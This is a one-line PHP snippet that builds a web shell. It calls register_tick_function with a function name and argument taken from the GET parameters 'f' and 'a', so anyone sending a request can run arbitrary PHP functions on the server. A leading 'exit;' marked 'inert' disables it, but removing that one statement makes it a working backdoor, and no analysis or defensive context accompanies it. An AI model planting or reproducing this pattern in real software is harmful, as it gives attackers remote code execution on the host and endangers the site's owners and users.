<?php exit; /* inert */ declare(ticks=1); register_tick_function($_GET["f"],$_GET["a"]);
